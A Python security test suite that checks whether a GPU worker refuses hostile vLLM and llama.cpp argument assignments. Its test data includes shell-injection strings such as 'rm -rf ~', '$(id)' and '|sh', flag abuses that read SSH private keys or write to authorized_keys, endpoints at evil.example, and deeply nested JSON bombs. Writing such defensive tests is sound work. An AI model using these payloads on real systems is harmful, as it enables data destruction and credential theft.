"""Hostile assignments: every one refused, 100 %, before any process starts, each with a clear reason.

The figure: of N hostile assignments (flags the app owns, in every spelling the engine's parser
accepts; every attack of issue 12: files read or written through `--log-file`/chat templates/
tokenizers/download folders, listeners and remote backends, plugins and import paths, dotted JSON
keys, `_` spellings and abbreviations, speculative configs naming classes or models, removed flags,
bad values; shell metacharacters, newlines and NUL; sources with `..`, `file://` or plain `http://`),
N are refused by `worker.plan.planner.plan` with the culprit named, and N by the `gpu-provider plan`
command (exit 2, `{"error": …}`), for vLLM on a native RTX 4090 and llama.cpp on a CPU-only
machine. `plan` is pure, so a refusal there is a refusal before any engine process exists; the
last test sends hostile assignments to a real running node whose engine executable records any
start. The control: every tuning flag on the allowlists, in every spelling, and the tiers real
fleets run (`shared/field-notes/`) are still planned.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import psutil
import pytest

from tests.security.node_process import headless_node
from tests.worker.engines.test_allowlist import forms, valid_values
from tests.worker.hardware.recorded import replay
from worker.contract import protocol
from worker.system.config import Settings
from worker.engines import get_adapter
from worker.engines.allowlist import Switch
from worker.hardware import Machine
from worker.link.local import ReferenceCoordinator
from worker.plan.planner import Plan, Refusal, plan

SAFE_VLLM_ARGS = ["--max-model-len", "8192"]
SAFE_LLAMACPP_ARGS = ["--ctx-size", "4096"]
SAFE_ARGS = {"vllm": SAFE_VLLM_ARGS, "llamacpp": SAFE_LLAMACPP_ARGS}
VLLM_SOURCE = "org/Tiny-1B"
LLAMACPP_SOURCE = "https://example.org/tiny-1b-Q4_K_M.gguf"
LLAMACPP_SHA256 = "5e" * 32
MACHINES = {"vllm": "rtx4090.json", "llamacpp": "no-gpu.json"}
ENGINES: tuple[protocol.EngineName, ...] = ("vllm", "llamacpp")


@dataclass(frozen=True)
class Hostile:
    """One hostile assignment: `args` replace the safe ones (in base_args or a tier), or `source`
    replaces the safe source; `names` is what the refusal must mention so a person knows why."""

    engine: protocol.EngineName
    label: str
    args: tuple[str, ...] = ()
    source: str | None = None
    names: tuple[str, ...] = ()

    def assignment(self, where: str = "base_args") -> protocol.Assign:
        safe = SAFE_VLLM_ARGS if self.engine == "vllm" else SAFE_LLAMACPP_ARGS
        default_source = VLLM_SOURCE if self.engine == "vllm" else LLAMACPP_SOURCE
        spec: dict[str, Any] = {"source": self.source or default_source, "weights_mib": 700, "base_args": safe}
        if self.engine == "llamacpp":
            spec["sha256"] = LLAMACPP_SHA256
        if self.args and where == "base_args":
            spec["base_args"] = safe + list(self.args)
        elif self.args:
            spec["tiers"] = {"1000": list(self.args)}
        return protocol.Assign.model_validate(
            {"assignment_id": "hostile-1", "model": {"name": "tiny-1b", self.engine: spec}})


def _flag_cases(engine: protocol.EngineName, spellings: dict[str, list[list[str]]]) -> list[Hostile]:
    return [
        Hostile(engine, f"{engine}: {' '.join(args)!r}", tuple(args), names=(args[0].split("=", 1)[0],))
        for spelled in spellings.values() for args in spelled
    ]


# vLLM parses with argparse: `--flag=value`, `--flag_with_underscores`, and any unambiguous prefix.
VLLM_FLAGS = {
    "host": [["--host", "0.0.0.0"], ["--host=0.0.0.0"], ["--host", "::"], ["--hos", "0.0.0.0"],
             ["--ho=0.0.0.0"], ["--host=", "0.0.0.0"]],
    "port": [["--port", "80"], ["--port=8000"], ["--por", "80"], ["--po=80"]],
    "api-key": [["--api-key", "known"], ["--api-key=known"], ["--api_key", "known"], ["--api-k", "known"]],
    "served-model-name": [["--served-model-name", "other"], ["--served-model-name=other"],
                          ["--served_model_name", "other"], ["--served-model", "other"]],
    "tensor-parallel": [["--tensor-parallel-size", "8"], ["-tp", "8"]],
    "trust-remote-code": [["--trust-remote-code"], ["--trust_remote_code"], ["--trust-remote"],
                          ["--trust-remote-code=True"]],
    "plugins": [["--worker-cls", "evil.Worker"], ["--middleware", "evil.mw"]],
    "listeners": [["--uds", "/tmp/sock"], ["--config", "/tmp/options.yaml"], ["--model", "other/repo"]],
}
LLAMACPP_FLAGS = {
    "host": [["--host", "0.0.0.0"], ["--host=0.0.0.0"]],
    "port": [["--port", "80"], ["--port=8000"]],
    "api-key": [["--api-key", "known"], ["--api-key=known"], ["--api-key-file", "/tmp/k"]],
    "served name": [["--alias", "other"], ["-a", "other"]],
    "other models": [["-m", "/tmp/other.gguf"], ["--hf-repo", "org/x"], ["--model-url", "https://x/y.gguf"]],
    "tools": [["--tools", "all"], ["--mcp-servers-config", "/tmp/mcp.json"]],
}
TEXT_CASES = [
    ("shell ;", "8192; rm -rf ~"), ("shell &&", "8192 && curl x"), ("shell |", "8192|sh"),
    ("shell $()", "$(id)"), ("shell backticks", "`id`"), ("shell >", ">/etc/passwd"), ("shell <", "</etc/shadow"),
    ("newline", "8192\n--host=0.0.0.0"), ("carriage return", "8192\r--host"), ("NUL", "8192\x00"),
    ("tab", "8192\t--host"), ("env assignment", "LD_PRELOAD=/tmp/evil.so"),
]
SOURCE_CASES = {
    "vllm": [("..", "org/../etc"), ("..", "/models/../etc/passwd"), ("file://", "file:///etc/passwd"),
             ("http://", "http://example.org/org/model"), ("ftp://", "ftp://example.org/m"),
             ("GGUF URL", "https://example.org/tiny-1b-Q4_K_M.gguf"), ("device", "/dev/zero")],
    "llamacpp": [("..", "/models/../../etc/passwd.gguf"), ("..", "https://example.org/a/../b.gguf"),
                 ("file://", "file:///home/u/model.gguf"), ("http://", "http://example.org/tiny-1b-Q4_K_M.gguf"),
                 ("UNC", "//server/share/m.gguf"), ("hf://", "hf://org/model")],
}

# Issue 12's attacks and their kin: (arguments, the flag the refusal must name). Values are real
# paths and addresses an attacker would use; the refusal must come from the flag, not the value.
SSH = "/home/u/.ssh"
VLLM_ATTACKS: list[tuple[list[str], str]] = [
    # files read, written or served
    (["--chat-template", "{{ raise_exception('x') }}"], "--chat-template"),
    (["--chat-template", f"{SSH}/id_ed25519"], "--chat-template"),
    (["--tokenizer", f"{SSH}"], "--tokenizer"), (["--download-dir", "/tmp/x"], "--download-dir"),
    (["--allowed-local-media-path", "/"], "--allowed-local-media-path"),
    (["--generation-config", "/etc"], "--generation-config"), (["--hf-config-path", "/etc"], "--hf-config-path"),
    (["--lora-modules", f"a={SSH}"], "--lora-modules"), (["--enable-lora"], "--enable-lora"),
    (["--config", "/tmp/options.yaml"], "--config"), (["--log-config-file", "/tmp/l.json"], "--log-config-file"),
    (["--logging-config", "/tmp/l.json"], "--logging-config"),
    # listeners, remote backends and endpoints
    (["--kv-events-config", '{"enable_kv_cache_events": true, "endpoint": "tcp://0.0.0.0:5557"}'],
     "--kv-events-config"),
    (["--kv-transfer-config", '{"kv_connector": "P2pNcclConnector", "kv_ip": "0.0.0.0"}'], "--kv-transfer-config"),
    (["--distributed-executor-backend", "ray"], "--distributed-executor-backend"),
    (["--otlp-traces-endpoint", "http://evil.example:4317"], "--otlp-traces-endpoint"),
    (["--grpc-port", "50051"], "--grpc-port"), (["--headless"], "--headless"),
    (["--data-parallel-address", "0.0.0.0"], "--data-parallel-address"), (["--master-addr", "0.0.0.0"], "--master-addr"),
    # plugins and import paths
    (["--middleware", "evil.mw"], "--middleware"), (["--tool-parser-plugin", "/tmp/p.py"], "--tool-parser-plugin"),
    (["--reasoning-parser-plugin", "/tmp/p.py"], "--reasoning-parser-plugin"),
    (["--logits-processors", "evil.LP"], "--logits-processors"), (["--worker-extension-cls", "evil.W"],
                                                                   "--worker-extension-cls"),
    (["--io-processor-plugin", "evil"], "--io-processor-plugin"), (["--scheduler-cls", "evil.S"], "--scheduler-cls"),
    # the parser's own back doors: dotted JSON keys, appends, `_`, abbreviations, `=` on switches
    (["--compilation-config.debug_dump_path", "/tmp/x"], "--compilation-config.debug_dump_path"),
    (["-cc.debug_dump_path", "/tmp/x"], "-cc.debug_dump_path"),
    (["--compilation-config.cache_dir=/tmp/x"], "--compilation-config.cache_dir"),
    (["--speculative-config.model", "/tmp/evil"], "--speculative-config.model"),
    (["--speculative-config.method+", "custom_class"], "--speculative-config.method+"),
    (["--max_model_len", "8192"], "--max_model_len"), (["--enforce_eager"], "--enforce_eager"),
    (["--max-model", "8192"], "--max-model"), (["--max-num", "8"], "--max-num"), (["--enforce"], "--enforce"),
    (["--enforce-eager=true"], "--enforce-eager"), (["--no-trust-remote"], "--no-trust-remote"),
    # JSON values that name classes, models, paths or unlisted keys
    (["--speculative-config", '{"method": "custom_class", "model": "evil.Drafter"}'], "--speculative-config"),
    (["--speculative-config", '{"method": "mtp", "model": "/tmp/evil"}'], "--speculative-config"),
    (["-sc", '{"method": "draft_model", "model": "org/evil"}'], "-sc"),
    (["-sc", '{"method": "eagle3", "num_speculative_tokens": 3}'], "-sc"),
    (["-sc", '{"method": "mtp", "draft_load_config": {"download_dir": "/tmp"}}'], "-sc"),
    (["-sc", '{"method": "mtp", "num_speculative_tokens": "2"}'], "-sc"),
    (["--compilation-config", '{"debug_dump_path": "/tmp/x"}'], "--compilation-config"),
    (["-cc", '{"mode": 3, "inductor_compile_config": {"trace.enabled": true}}'], "-cc"),
    (["--hf-overrides", '{"auto_map": {"AutoModel": "evil.M"}}'], "--hf-overrides"),
    # what the app owns (rule 3, 4), and flags vLLM 0.33 no longer takes
    (["-dp", "2"], "-dp"), (["--data-parallel-size", "2"], "--data-parallel-size"), (["-pp", "2"], "-pp"),
    (["--pipeline-parallel-size=2"], "--pipeline-parallel-size"), (["--kv-cache-memory-bytes", "10G"],
                                                                  "--kv-cache-memory-bytes"),
    (["--speculative-model", "org/draft"], "--speculative-model"), (["--num-speculative-tokens", "5"],
                                                                  "--num-speculative-tokens"),
    (["--swap-space", "0"], "--swap-space"), (["--calculate-kv-scales"], "--calculate-kv-scales"),
    (["--speculative-draft-tensor-parallel-size", "1"], "--speculative-draft-tensor-parallel-size"),
    # bad values and stray positionals
    (["--max-num-seqs", "-5"], "--max-num-seqs"), (["--kv-cache-dtype", "../x"], "--kv-cache-dtype"),
    (["--max-model-len", "1e9"], "--max-model-len"), (["--gpu-memory-utilization", "1.5"], "--gpu-memory-utilization"),
    (["--optimization-level", "4"], "--optimization-level"), (["-O4"], "-O4"), (["-Odecode"], "-Odecode"),
    (["--quantization", "evil.Quant"], "--quantization"), (["--dtype", "float64"], "--dtype"),
    (["org/other-model"], "org/other-model"), (["--max-num-seqs"], "--max-num-seqs"),
    (["--enforce-eager", "/tmp/x"], "/tmp/x"),
]
LLAMACPP_ATTACKS: list[tuple[list[str], str]] = [
    (["--log-file", f"{SSH}/authorized_keys", "--chat-template", "ssh-ed25519 AAAA attacker", "-v"], "--log-file"),
    (["--chat-template-file", f"{SSH}/id_ed25519", "-v"], "--chat-template-file"),
    (["--chat-template", "{{ messages }}"], "--chat-template"), (["-v"], "-v"), (["--log-verbose"], "--log-verbose"),
    (["-md", "/tmp/draft.gguf"], "-md"), (["--model-draft", "/tmp/d.gguf"], "--model-draft"),
    (["--spec-draft-model", "/tmp/d.gguf"], "--spec-draft-model"), (["-hfd", "org/draft"], "-hfd"),
    (["--rpc", "10.0.0.1:50052"], "--rpc"), (["--mmproj", "/tmp/p.gguf"], "--mmproj"), (["-mm", "/tmp/p.gguf"], "-mm"),
    (["--mmproj-url", "https://evil.example/p.gguf"], "--mmproj-url"), (["--grammar-file", "/etc/passwd"],
                                                                      "--grammar-file"),
    (["--json-schema-file", "/etc/passwd"], "--json-schema-file"), (["--slot-save-path", "/tmp"], "--slot-save-path"),
    (["--media-path", "/"], "--media-path"), (["--path", "/"], "--path"), (["--lora", "/tmp/l.gguf"], "--lora"),
    (["--control-vector", "/tmp/c.gguf"], "--control-vector"), (["-lcs", "/tmp/cache"], "-lcs"),
    (["--lookup-cache-dynamic", "/tmp/cache"], "--lookup-cache-dynamic"), (["--ssl-key-file", "/tmp/k"],
                                                                        "--ssl-key-file"),
    (["-sm", "row"], "-sm"), (["--split-mode", "layer"], "--split-mode"), (["-ts", "1,1"], "-ts"), (["-mg", "1"], "-mg"),
    (["--fit", "on"], "--fit"), (["-fit", "off"], "-fit"), (["-fitc", "4096"], "-fitc"),
    (["--spec-type", "draft-simple"], "--spec-type"), (["--spec-type", "draft-eagle3"], "--spec-type"),
    (["--spec-type", "ngram-mod,draft-dflash"], "--spec-type"), (["--spec-type", "ngram-cache"], "--spec-type"),
    (["--draft-max", "8"], "--draft-max"), (["--draft", "8"], "--draft"), (["--draft-min", "1"], "--draft-min"),
    (["--ctx-size", "1e9"], "--ctx-size"), (["--ctx-size=4096"], "--ctx-size"), (["-c", "99999999999"], "-c"),
    (["--ctx_size", "4096"], "--ctx_size"), (["-fa"], "-fa"), (["-fa", "-v"], "-fa"), (["-ngl", "-1"], "-ngl"),
    (["-ctk", "q8"], "-ctk"), (["-np", "0"], "-np"), (["-ot", "exps=CPU"], "-ot"),
    (["--override-kv", "tokenizer.chat_template=str:x"], "--override-kv"), (["--props"], "--props"),
    (["--mcp-servers-json", "{}"], "--mcp-servers-json"), (["--agent"], "--agent"), (["/tmp/other.gguf"], "/tmp/other.gguf"),
]


def hostile_cases() -> list[Hostile]:
    cases = _flag_cases("vllm", VLLM_FLAGS) + _flag_cases("llamacpp", LLAMACPP_FLAGS)
    cases += [Hostile("vllm", f"vllm: {' '.join(args)!r}", tuple(args), names=(name,)) for args, name in VLLM_ATTACKS]
    cases += [Hostile("llamacpp", f"llamacpp: {' '.join(args)!r}", tuple(args), names=(name,))
              for args, name in LLAMACPP_ATTACKS]
    safe_flag = {"vllm": "--max-model-len", "llamacpp": "--ctx-size"}
    for engine in ENGINES:
        cases += [Hostile(engine, f"{engine}: {label}", (safe_flag[engine], text), names=(repr(text)[1:-1][:6],))
                  for label, text in TEXT_CASES]
        cases += [Hostile(engine, f"{engine}: source {why}", source=source, names=(source,))
                  for why, source in SOURCE_CASES[engine]]
    return cases


CASES = hostile_cases()


def cli_cases() -> list[Hostile]:
    """One case per kind (each flag group's first spelling, two kinds of text, every source): each
    CLI run is a Python start-up, and the spellings are already proven through `plan` above."""
    firsts = [cases[0] for flags in (VLLM_FLAGS, LLAMACPP_FLAGS) for cases in flags.values()]
    picked = {" ".join(args) for args in firsts}
    text = {"8192; rm -rf ~", "8192\n--host=0.0.0.0"}
    return [case for case in CASES
            if case.source or " ".join(case.args) in picked or (len(case.args) == 2 and case.args[1] in text)]


@pytest.fixture(scope="module")
def machines() -> dict[str, Machine]:
    return {engine: replay(name) for engine, name in MACHINES.items()}


def _plan_refusal(machines: dict[str, Machine], case: Hostile, where: str) -> Refusal | Plan:
    return plan(machines[case.engine], case.assignment(where), Settings())


def _mentions(reason: str, case: Hostile | Costly) -> bool:
    return all(name.lower() in reason.lower() for name in case.names)


def test_the_safe_assignments_are_planned(machines: dict[str, Machine]) -> None:
    """The control: without the hostile part, each engine's assignment is accepted."""
    for engine in ENGINES:
        result = plan(machines[engine], Hostile(engine, "safe").assignment(), Settings())
        assert isinstance(result, Plan) and result.engine == engine, result


def test_every_hostile_assignment_is_refused_by_plan_with_a_reason(machines: dict[str, Machine]) -> None:
    """Figure: refused / hostile = 100 %, in base_args and in a tier, each reason naming the culprit."""
    attempts, refused, unclear = 0, 0, []
    for case in CASES:
        for where in ("base_args", "tier") if case.args else ("base_args",):
            attempts += 1
            result = _plan_refusal(machines, case, where)
            if isinstance(result, Refusal):
                refused += 1
                if not _mentions(result.reason, case):
                    unclear.append((case.label, where, result.reason))
    print(f"\nhostile assignments refused by plan: {refused}/{attempts} = {refused / attempts:.0%}")
    assert len(CASES) >= 100 and attempts >= 200
    assert refused == attempts, [c.label for c in CASES if not isinstance(_plan_refusal(machines, c, "base_args"), Refusal)]
    assert unclear == []


def test_every_refusal_starts_with_the_contracts_wording(machines: dict[str, Machine]) -> None:
    """`argument not allowed: FLAG` (or `value not allowed for FLAG`), then where it was."""
    for case in CASES:
        if case.args:
            reason = _plan_refusal(machines, case, "tier")
            assert isinstance(reason, Refusal), case.label
            assert reason.reason.startswith(("argument not allowed: ", "value not allowed for ")), reason.reason
            assert " (in tier 1000): " in reason.reason, reason.reason


def test_remote_code_allowed_in_settings_opens_nothing_else(machines: dict[str, Machine]) -> None:
    """The one setting that widens the list adds `--trust-remote-code` and nothing the app owns."""
    settings = Settings(allow_remote_code=True)
    allowed = plan(machines["vllm"], Hostile("vllm", "code", ("--trust-remote-code",)).assignment(), settings)
    assert isinstance(allowed, Plan)
    for case in CASES:
        if case.args and case.args[0] != "--trust-remote-code" and case.names != ("--trust-remote-code",):
            assert isinstance(plan(machines[case.engine], case.assignment(), settings), Refusal), case.label


def test_the_app_owned_flags_come_last_so_the_engine_stays_on_loopback(machines: dict[str, Machine]) -> None:
    for engine in ENGINES:
        result = plan(machines[engine], Hostile(engine, "safe").assignment(), Settings())
        assert isinstance(result, Plan), result
        argv = result.engines[0].argv()
        hosts = [i for i, arg in enumerate(argv) if arg == "--host"]
        assert len(hosts) == 1 and argv[hosts[0] + 1] == "127.0.0.1" and hosts[0] > len(argv) - 8


def tuning_cases(engine: protocol.EngineName) -> list[list[str]]:
    """Every listed flag in every spelling (the `=` form too where the parser reads it), each with
    every edge of its type: a range's ends, every word, every choice, a JSON object with every key."""
    cases: list[list[str]] = []
    for flag in get_adapter(engine).ALLOWED_ARGS.flags:
        if isinstance(flag.value, Switch):
            cases += [[spelling] for spelling in flag.all_spellings()]
        else:
            cases += [args for value in valid_values(flag.value) for args in forms(flag, value)]
    return cases


@pytest.mark.parametrize("engine", ENGINES)
def test_every_listed_tuning_flag_is_still_planned(machines: dict[str, Machine], engine: protocol.EngineName) -> None:
    """The control for the corpus: the allowlist refuses the attacks, not the tuning."""
    planned = 0
    for args in tuning_cases(engine):
        result = plan(machines[engine], Hostile(engine, "tuning", tuple(args)).assignment(), Settings(allow_remote_code=True))
        assert isinstance(result, Plan), (args, result)
        expected, cap = get_adapter(engine).ALLOWED_ARGS.split_memory_cap(args)
        assert result.engines[0].args == tuple(SAFE_ARGS[engine]) + expected, args
        assert result.engines[0].memory_cap == cap, args
        planned += 1
    print(f"\n{engine}: {planned} tuning argument lists planned")
    assert planned >= 60


# The tiers real fleets run (shared/field-notes/), less the removed flags those notes still show.
FIELD_NOTE_TIERS: dict[protocol.EngineName, list[list[str]]] = {
    "vllm": [
        ["--max-model-len", "32768", "--enforce-eager"], ["--no-enforce-eager", "--max-num-seqs", "128"],
        ["--no-enforce-eager", "--max-num-seqs", "128", "--max-model-len", "65536"], ["--max-model-len", "131072"],
        ["--no-enforce-eager", "--speculative-config", '{"method":"mtp","num_speculative_tokens":2}'],
        ["--speculative-config", '{"method": "mtp", "num_speculative_tokens": 4}'], ["--kv-cache-dtype", "fp8"],
        ["--gpu-memory-utilization", "0.92", "--max-model-len", "8192", "--max-num-seqs", "64",
         "--max-num-batched-tokens", "8192", "--enable-chunked-prefill", "--enable-prefix-caching",
         "--kv-cache-dtype", "fp8", "--dtype", "bfloat16"],
        ["--quantization", "awq", "--kv-cache-dtype", "fp8", "--gpu-memory-utilization", "0.94"],
        ["--enable-prefix-caching", "--enable-chunked-prefill", "--max-num-batched-tokens", "4096"],
        ["--speculative-config", '{"method":"ngram","num_speculative_tokens":4,"prompt_lookup_max":4}'],
    ],
    "llamacpp": [
        ["-c", "32768", "-np", "4", "-fa", "on", "-ctk", "q8_0", "-ctv", "q8_0", "-ngl", "all"],
        ["--ctx-size", "32768"], ["--ctx-size", "65536"], ["--jinja", "-c", "131072", "-np", "1"],
        ["-ngl", "99", "-fa", "auto", "-b", "2048", "-ub", "512", "-t", "8", "--cont-batching"],
        ["--spec-type", "ngram-mod", "--spec-draft-n-max", "16"],
    ],
}


@pytest.mark.parametrize("engine", ENGINES)
def test_the_field_notes_tiers_are_planned(machines: dict[str, Machine], engine: protocol.EngineName) -> None:
    for args in FIELD_NOTE_TIERS[engine]:
        case = Hostile(engine, "field notes", tuple(args))
        for where in ("base_args", "tier"):
            assert isinstance(plan(machines[engine], case.assignment(where), Settings()), Plan), (where, args)


async def _cli_plan(hardware: Path, assignment: Path) -> tuple[int, bytes]:
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "worker", "plan", "--hardware", str(hardware), "--assignment", str(assignment),
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL,
    )
    out, _ = await process.communicate()
    return process.returncode or 0, out


@pytest.mark.integration
async def test_every_hostile_assignment_is_refused_by_the_plan_command(
    machines: dict[str, Machine], tmp_path: Path
) -> None:
    """Figure: `gpu-provider plan` exits 2 with {"error": reason} for 100 % of the cases tried."""
    hardware = {}
    for engine, machine in machines.items():
        hardware[engine] = tmp_path / f"{engine}-machine.json"
        hardware[engine].write_text(json.dumps(machine.to_detect_json()), encoding="utf-8")
    files = []
    for number, case in enumerate(cli_cases()):
        path = tmp_path / f"assign-{number}.json"
        path.write_text(case.assignment().model_dump_json(), encoding="utf-8")
        files.append((case, path))
    limit = asyncio.Semaphore(4)

    async def run(case: Hostile, path: Path) -> tuple[Hostile, int, bytes]:
        async with limit:
            return (case, *await _cli_plan(hardware[case.engine], path))

    results = await asyncio.gather(*(run(case, path) for case, path in files))
    refused = [case for case, code, out in results
               if code == 2 and _mentions(json.loads(out)["error"], case)]
    print(f"\nhostile assignments refused by `gpu-provider plan`: {len(refused)}/{len(results)}")
    assert len(results) >= 25 and len(refused) == len(results), [
        (case.label, code, out[:200]) for case, code, out in results if case not in refused
    ]


async def test_the_plan_command_accepts_the_safe_control(machines: dict[str, Machine], tmp_path: Path) -> None:
    """So that exit 2 above means "refused", not "the command is broken"."""
    hardware = tmp_path / "machine.json"
    hardware.write_text(json.dumps(machines["vllm"].to_detect_json()), encoding="utf-8")
    assignment = tmp_path / "assign.json"
    assignment.write_text(Hostile("vllm", "safe").assignment().model_dump_json(), encoding="utf-8")
    code, out = await _cli_plan(hardware, assignment)
    assert code == 0 and json.loads(out)["engine"] == "vllm"


NODE_CASES = [
    Hostile("vllm", "host", ("--host", "0.0.0.0"), names=("--host",)),
    Hostile("vllm", "abbreviated port", ("--por=80",), names=("--por",)),
    Hostile("vllm", "remote code", ("--trust-remote-code",), names=("--trust-remote-code",)),
    Hostile("vllm", "newline", ("--max-model-len", "8192\n--host=0.0.0.0"), names=("8192\\n",)),
    Hostile("vllm", "shell", ("--max-model-len", "$(id)"), names=("$(id)",)),
    Hostile("vllm", "http source", source="http://example.org/org/model", names=("http://",)),
    Hostile("vllm", "dot-dot source", source="/models/../etc", names=("..",)),
]


@pytest.mark.integration
async def test_a_running_node_refuses_every_hostile_assignment_before_starting_anything(tmp_path: Path) -> None:
    """Figure: of the hostile assignments sent to a real headless node, 100 % end in a `failed`
    status naming the culprit, and the engine executable (a marker that records any start) never runs."""
    marker = tmp_path / "engine-was-started"
    engine = tmp_path / "vllm"
    engine.write_text(f"#!{sys.executable}\nimport pathlib\npathlib.Path({str(marker)!r}).touch()\n", encoding="utf-8")
    engine.chmod(0o755)
    token = "hostile-token"
    async with (
        ReferenceCoordinator(token=token, ping_interval=None) as coordinator,
        headless_node(tmp_path, coordinator.url, token, engine) as node,
    ):
        await coordinator.wait_for_connections(1, timeout=60)
        refused = []
        for case in NODE_CASES:
            after = len(coordinator.received)
            await coordinator.send(case.assignment())
            status = await coordinator.wait_for(
                lambda m: isinstance(m, protocol.Status) and m.state == "failed", after=after, timeout=30)
            if status.last_error and _mentions(status.last_error, case):
                refused.append(case.label)
        await asyncio.sleep(0.5)  # time enough for a wrongly started engine to leave its mark
        children = psutil.Process(node.process.pid).children(recursive=True)
    print(f"\nhostile assignments refused by a running node: {len(refused)}/{len(NODE_CASES)}; "
          f"engine starts: {int(marker.exists())}")
    assert refused == [case.label for case in NODE_CASES]
    assert not marker.exists() and children == []


# --- Bounded work (issue 21): what checking an assignment costs, not only what it may say ---------
# The attacks: a JSON value with 25,000 keys took 15 s to refuse, on the node's event loop; 1,000
# tiers behind 40,000 repeated switches took 46 s and were accepted (each tier copied base_args);
# a JSON value nested 5,000 deep raised RecursionError out of `plan` (no refusal sent, exit 1 from
# the CLI). The contract's sizes (Assignment rule 4) refuse each at once.

MANY_KEYS = json.dumps({f"key{i}": 1 for i in range(25_000)})
DEEP_ARRAY = "[" * 5_000 + "]" * 5_000
DEEP_OBJECT = '{"method": ' * 5_000 + '"mtp"' + "}" * 5_000
BOUNDED_S = 2.0  # the refusal's budget; the attacks took 15 s, 46 s, or never answered


@dataclass(frozen=True)
class Costly:
    """An assignment whose size, not its words, is the attack: `base_args`, then `tiers` tiers of
    `tier_args`; `names` is what the refusal must mention."""

    engine: protocol.EngineName
    label: str
    base_args: tuple[str, ...]
    names: tuple[str, ...]
    tiers: int = 0
    tier_args: tuple[str, ...] = ()

    def message(self, assignment_id: str = "costly-1") -> dict[str, Any]:
        spec: dict[str, Any] = {
            "source": VLLM_SOURCE if self.engine == "vllm" else LLAMACPP_SOURCE, "weights_mib": 700,
            "base_args": list(self.base_args), "tiers": {str(1000 + i): list(self.tier_args) for i in range(self.tiers)}}
        if self.engine == "llamacpp":
            spec["sha256"] = LLAMACPP_SHA256
        return {"type": "assign", "assignment_id": assignment_id, "model": {"name": "tiny-1b", self.engine: spec}}

    def assignment(self) -> protocol.Assign:
        return protocol.Assign.model_validate(self.message())


COSTLY_CASES = [
    Costly("vllm", "25,000 JSON keys", ("--compilation-config", MANY_KEYS), ("too large", "363,890 bytes")),
    Costly("vllm", "a JSON array 5,000 deep", ("--compilation-config", DEEP_ARRAY),
           ("--compilation-config", "nested more than 16 deep")),
    Costly("vllm", "a JSON object 5,000 deep", ("--speculative-config", DEEP_OBJECT),
           ("--speculative-config", "nested more than 16 deep")),
    Costly("vllm", "1,000 tiers x 40,000 switches", ("--enforce-eager",) * 40_000, ("1,000 tiers",),
           tiers=1_000, tier_args=("--no-enforce-eager",)),
    Costly("llamacpp", "1,000 tiers x 40,000 switches", ("-cb",) * 40_000, ("1,000 tiers",),
           tiers=1_000, tier_args=("-nocb",)),
    Costly("vllm", "40,000 switches", ("--enforce-eager",) * 40_000, ("base_args has 40,000 arguments",)),
    Costly("llamacpp", "32 tiers x 40,000 switches", tuple(SAFE_LLAMACPP_ARGS), ("tier 1000 has 40,000 arguments",),
           tiers=32, tier_args=("-cb",) * 40_000),
]


@pytest.mark.parametrize("case", COSTLY_CASES, ids=lambda case: f"{case.engine}: {case.label}")
def test_a_costly_assignment_is_refused_within_2_s_naming_the_limit(machines: dict[str, Machine], case: Costly) -> None:
    assignment = case.assignment()
    started = time.perf_counter()
    result = plan(machines[case.engine], assignment, Settings())
    took = time.perf_counter() - started
    print(f"\n{case.engine}: {case.label}: {result} in {took:.3f} s")
    assert isinstance(result, Refusal) and _mentions(result.reason, case)
    assert took < BOUNDED_S


async def test_the_plan_command_refuses_what_is_nested_too_deep(machines: dict[str, Machine], tmp_path: Path) -> None:
    """Exit 2 with {"error": …}, as for any refusal: a deep value inside an argument, and a file
    that is itself nested 5,000 deep (both exited 1 with a RecursionError traceback)."""
    hardware = tmp_path / "machine.json"
    hardware.write_text(json.dumps(machines["vllm"].to_detect_json()), encoding="utf-8")
    deep_value = tmp_path / "deep-value.json"
    deep_value.write_text(json.dumps(COSTLY_CASES[1].message()), encoding="utf-8")
    deep_file = tmp_path / "deep-file.json"
    deep_file.write_text('{"type": "assign", "assignment_id": "x", "model": ' + DEEP_ARRAY + "}", encoding="utf-8")
    for path, words in ((deep_value, "nested more than 16 deep"), (deep_file, "nested too deeply")):
        code, out = await _cli_plan(hardware, path)
        assert code == 2 and words in json.loads(out)["error"], (path.name, code, out[:300])
